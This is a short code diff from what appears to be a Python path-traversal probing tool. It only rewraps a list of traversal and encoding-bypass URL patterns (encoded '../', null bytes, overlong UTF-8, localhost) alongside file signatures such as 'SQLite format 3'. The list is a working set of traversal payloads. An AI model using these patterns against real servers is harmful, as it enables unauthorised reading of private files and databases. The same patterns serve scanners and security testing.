@@ -49,8 +49,9 @@ PLACES = [
 TRICKS = [
     "/{}", "//{}", "/./{}", "/static/{}", "/static/../{}", "/static/..%2f{}", "/static/%2e%2e/{}",
     "/static/%2e%2e%2f{}", "/static/..%5c{}", "/static/....//{}", "/static/%252e%252e%252f{}",
-    "/static/css/../../{}", "/static/..%c0%af{}", "/static//{}", "/static/..;/{}", "/static/%00/{}", "/static/{}%00.css", "/photos/..%2f{}", "/mailbox/..%2f{}",
-    "/en/../{}", "/static/../../../../../../../{}", "/static/%2f{}", "http://127.0.0.1/{}", "/static/.%2e/{}",
+    "/static/css/../../{}", "/static/..%c0%af{}", "/static//{}", "/static/..;/{}", "/static/%00/{}",
+    "/static/{}%00.css", "/photos/..%2f{}", "/mailbox/..%2f{}", "/en/../{}", "/static/%2f{}",
+    "/static/../../../../../../../{}", "http://127.0.0.1/{}", "/static/.%2e/{}",
 ]  # fmt: skip
 TELLTALES = (
     b"SQLite format 3",
